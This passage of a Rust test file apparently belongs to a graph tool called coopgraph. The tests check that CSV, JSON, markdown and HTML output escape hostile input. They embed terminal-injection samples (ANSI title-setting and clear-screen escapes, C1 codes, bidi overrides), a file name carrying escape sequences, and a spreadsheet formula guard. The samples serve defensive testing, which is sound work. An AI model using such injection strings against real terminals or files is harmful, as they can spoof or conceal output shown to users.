        if probe.is_ok_and(|p| p.status.success()) {
            return true;
        }
        crate::support::inputs::missing(
            "a pseudo-terminal through util-linux `script`",
            "terminal tests",
        );
        false
    }

    /// Runs coopgraph with `args` and stdout on a pseudo-terminal (util-linux
    /// `script`), returning what the terminal received with its `\r\n` line
    /// ends as `\n`; `None` (and "skipped" on stderr, a failure under CI) when
    /// no terminal can be made.
    fn on_terminal(args: &[&str]) -> Option<String> {
        if !can_make_a_terminal() {
            return None;
        }
        let bin = env!("CARGO_BIN_EXE_coopgraph");
        let line = std::iter::once(bin)
            .chain(args.iter().copied())
            .map(sh_quote)
            .collect::<Vec<_>>()
            .join(" ");
        let out = std::process::Command::new("script")
            .args(["-qec", &line, "/dev/null"])
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        assert!(out.status.success(), "{line}: {out:?}");
        Some(String::from_utf8(out.stdout).unwrap().replace("\r\n", "\n"))
    }

    fn assert_nothing_raw(text: &str, what: &str) {
        let raw: Vec<char> = text.chars().filter(|&c| unsafe_char(c)).collect();
        assert!(
            raw.is_empty(),
            "{what} reached the terminal raw: {raw:?}\n{text}"
        );
    }

    #[test]
    fn csv_on_a_terminal_is_escaped_as_tables_are() {
        let dir = tempfile::tempdir().unwrap();
        let data = dataset(dir.path());
        let data = data.to_str().unwrap();
        for cmd in ["metrics", "communities"] {
            let args = ["--quiet", "--data", data, cmd, "--format", "csv"];
            let Some(shown) = on_terminal(&args) else {
                return;
            };
            assert_nothing_raw(&shown, cmd);
            assert!(shown.contains("Esc \\u{1b}]0;owned\\u{7}"), "{shown}");
            assert!(shown.contains("C1 \\u{9b}2J"), "{shown}");
            assert!(shown.contains("Bidi \\u{202e}evil"), "{shown}");
        }
    }

    #[test]
    fn json_on_a_terminal_escapes_c1_and_bidi_characters_and_keeps_the_values() {
        let dir = tempfile::tempdir().unwrap();
        let data = dataset(dir.path());
        let data_arg = data.to_str().unwrap();
        let args = ["--quiet", "--data", data_arg, "metrics", "--format", "json"];
        let Some(shown) = on_terminal(&args) else {
            return;
        };
        assert_nothing_raw(&shown, "metrics --format json");
        assert!(shown.contains("C1 \\u009b2J"), "{shown}");
        assert!(shown.contains("Bidi \\u202eevil"), "{shown}");
        // Still JSON, with the same values as when piped.
        let on_tty: serde_json::Value = serde_json::from_str(&shown).unwrap();
        let piped = stdout(&["metrics", "--format", "json"], &data);
        // Piped output is as it always was: the characters themselves.
        let piped_text = String::from_utf8(piped.clone()).unwrap();
        assert!(piped_text.contains("C1 \u{9b}2J"));
        let piped: serde_json::Value = serde_json::from_slice(&piped).unwrap();
        assert_eq!(on_tty, piped);
    }

    #[test]
    fn csv_piped_keeps_every_character_after_the_quote() {
        let dir = tempfile::tempdir().unwrap();
        let data = dataset(dir.path());
        let out = stdout(&["metrics", "--format", "csv"], &data);
        let mut r = csv::Reader::from_reader(out.as_slice());
        let names: Vec<String> = r.records().map(|r| r.unwrap()[1].to_string()).collect();
        for (_, name) in NAMES {
            let shown = if name.starts_with(FORMULA_START) {
                format!("'{name}")
            } else {
                name.to_string()
            };
            assert!(names.contains(&shown), "{shown:?} not in {names:?}");
        }
    }

    #[test]
    fn wrote_lines_escape_the_path() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("x\u{1b}]0;owned\u{7}\u{9b}2J.json");
        let run = coopgraph()
            .args(["generate", "--orgs", "5", "--projects", "3", "-o"])
            .arg(&out)
            .assert()
            .success();
        let err = String::from_utf8(run.get_output().stderr.clone()).unwrap();
        assert!(err.contains("wrote "), "{err}");
        assert_nothing_raw(&err, "the wrote line");
        assert!(
            err.contains("x\\u{1b}]0;owned\\u{7}\\u{9b}2J.json"),
            "{err}"
        );
    }

    #[test]
    fn report_md_escapes_control_characters_and_keeps_printable_text() {
        let dir = tempfile::tempdir().unwrap();
        let data = dataset(dir.path());
        let spec = crate::support::write(
            dir.path(),
            "spec.toml",
            "title = \"Title \\u001b[2J clear\"\n[[table]]\nid = \"metrics\"\nmetrics = [\"degree\"]\n",
        );
        let out = report_with(dir.path(), &data, &spec);
        let md = std::fs::read_to_string(out.join("report.md")).unwrap();
        assert_nothing_raw(&md, "report.md");
        assert!(md.starts_with("# Title \\u{1b}\\[2J clear\n"), "{md}");
        assert!(
            md.contains("| Esc \\u{1b}\\]0;owned\\u{7} \\u{1b}\\[2J bell |"),
            "{md}"
        );
        assert!(md.contains("| C1 \\u{9b}2J csi \\u{85}nel |"), "{md}");
        assert!(
            md.contains("| Bidi \\u{202e}evil \\u{2066}isolate |"),
            "{md}"
        );
    }
}

// ==========================================================================
// The explorer's page with hostile names: the data is JSON that no name can
// end (no `<`, no line separators in it), every name arrives intact, and no
// markup from the data reaches the page outside that JSON.
mod explorer {
    use crate::support::{coopgraph_quiet, hostile};

    #[test]
    fn hostile_names_stay_inside_the_data_and_arrive_intact() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("e.html");
        coopgraph_quiet()
            .args(["--data", hostile::FIXTURE, "explore", "-o"])
            .arg(&out)
            .assert()
            .success();
        let page = std::fs::read_to_string(&out).unwrap();
        let open = "<script type=\"application/json\" id=\"coopgraph-data\">";
        let (before, rest) = page.split_once(open).unwrap();
        let (json, after) = rest.split_once("</script>").unwrap();
        for bad in ["<", "\u{2028}", "\u{2029}"] {
            assert!(!json.contains(bad), "the data holds {bad:?}");
        }
        let data: serde_json::Value = serde_json::from_str(json).unwrap();
        let fixture: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(hostile::FIXTURE).unwrap()).unwrap();
        // Nodes are stored a column per field; descriptions by node number.
        let nodes = &data["nodes"];
        let ids = nodes["id"].as_array().unwrap();
        for n in fixture["nodes"].as_array().unwrap() {
            let k = ids.iter().position(|id| *id == n["id"]).unwrap();
            assert_eq!(nodes["name"][k], n["name"]);
            if n["description"].is_string() {
                let details = nodes["details"].as_array().unwrap();
                let d = details.iter().find(|d| d[0] == k).unwrap();
                assert_eq!(d[1]["description"], n["description"]);
            }
        }
        // Outside the data: only our own three scripts, and no hostile text.
        assert_eq!(after.matches("<script>").count(), 3);
        for s in hostile::strings() {
            assert!(!before.contains(s), "{s:?} outside the data");
        }
        assert_eq!(page.matches("</script>").count(), 4);
    }
}
